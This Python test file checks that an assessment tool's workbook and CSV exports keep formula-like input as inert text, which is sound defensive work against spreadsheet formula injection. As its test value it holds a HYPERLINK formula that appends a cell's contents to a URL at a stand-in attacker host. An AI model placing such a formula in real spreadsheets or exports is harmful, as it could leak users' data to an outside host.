"""Text that a spreadsheet would evaluate (D6) reaches every workbook and CSV file as text, kept as typed."""

from __future__ import annotations

import csv

import openpyxl

from dsm_assess.engagement.edit import add_respondent
from dsm_assess.engagement.spec import load_engagement

from .conftest import export_book

LINK = '=HYPERLINK("http://evil.example.com/?"&A1,"Open")'


def test_a_respondent_named_like_a_formula_stays_text_in_the_questionnaire(fw, acme, root, tmp_path):
    add_respondent(fw, "acme", LINK, "eve@acme.example.com", "-1+2", ["PR.INC"], root)
    eng = load_engagement("acme", root, fw)
    book = openpyxl.load_workbook(export_book(fw, eng, "eve@acme.example.com", tmp_path / "out", root))
    cells = [c for row in book["Instructions"].iter_rows() for c in row if isinstance(c.value, str)]
    prepared = next(c for c in cells if c.value.startswith("=HYPERLINK"))
    assert prepared.data_type == "s" and prepared.value == f"{LINK} (-1+2)"
    assert not any(c.data_type == "f" for c in cells)


def test_a_target_reason_like_a_formula_is_marked_in_the_score_csv(cli, fw, acme, root, tmp_path):
    assert cli("target", "set", "acme", "PR.INC", "3", "--reason", "=1+1", "--root", root).exit_code == 0
    result = cli("score", "acme", "--format", "csv", "--out-dir", tmp_path / "out", "--root", root)
    assert result.exit_code == 0, result.output
    [subjects] = (tmp_path / "out").glob("*-subjects.csv")
    rows = {r["id"]: r for r in csv.DictReader(subjects.open(encoding="utf-8"))}
    assert rows["PR.INC"]["target_reason"] == "'=1+1"
    assert load_engagement("acme", root, fw).targets["PR.INC"].reason == "=1+1"  # kept as typed
